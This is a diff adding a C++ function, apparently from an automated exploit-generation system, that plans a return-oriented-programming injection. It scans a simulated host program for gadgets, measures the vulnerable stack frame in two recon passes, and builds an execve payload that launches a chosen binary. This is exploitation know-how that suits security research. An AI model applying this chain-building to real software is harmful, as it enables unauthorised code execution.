@@ -1,0 +1,43 @@
+#include "rop/plan.hpp"
+
+#include "support/error.hpp"
+
+namespace crs::rop {
+
+InjectionPlan plan_injection(const sim::Program& host, ReconSpec recon_spec,
+                             const std::string& attack_binary_path) {
+  if (recon_spec.benign_args.empty()) {
+    recon_spec.benign_args = {"host", "hello"};
+  }
+  CRS_ENSURE(recon_spec.benign_args.size() >= 2,
+             "recon needs argv[0] and a benign argv[1]");
+
+  InjectionPlan plan;
+  plan.gadgets = GadgetScanner().scan(host);
+  ChainBuilder builder(plan.gadgets);
+  CRS_ENSURE(builder.can_build_execve(),
+             "host lacks the gadgets for an execve chain");
+
+  // Pass 1: learn the frame geometry with any benign input.
+  const FrameRecon probe = recon_vulnerable_frame(host, recon_spec);
+
+  // Pass 2: re-measure with an input of the payload's exact length, so the
+  // buffer address matches the attack run.
+  const std::size_t payload_len =
+      probe.filler_length + 8 * ChainBuilder::kExecveChainWords;
+  ReconSpec matched = recon_spec;
+  matched.benign_args[1] = std::string(payload_len, 'A');
+  plan.frame = recon_vulnerable_frame(host, matched);
+  CRS_ENSURE(plan.frame.filler_length == probe.filler_length,
+             "frame layout changed between recon passes");
+
+  ExecveChainSpec spec;
+  spec.binary_path = attack_binary_path;
+  spec.buffer_address = plan.frame.buffer_address;
+  spec.filler_length = plan.frame.filler_length;
+  spec.resume_address = plan.frame.resume_address;
+  plan.payload = builder.build_execve_payload(spec);
+  return plan;
+}
+
+}  // namespace crs::rop
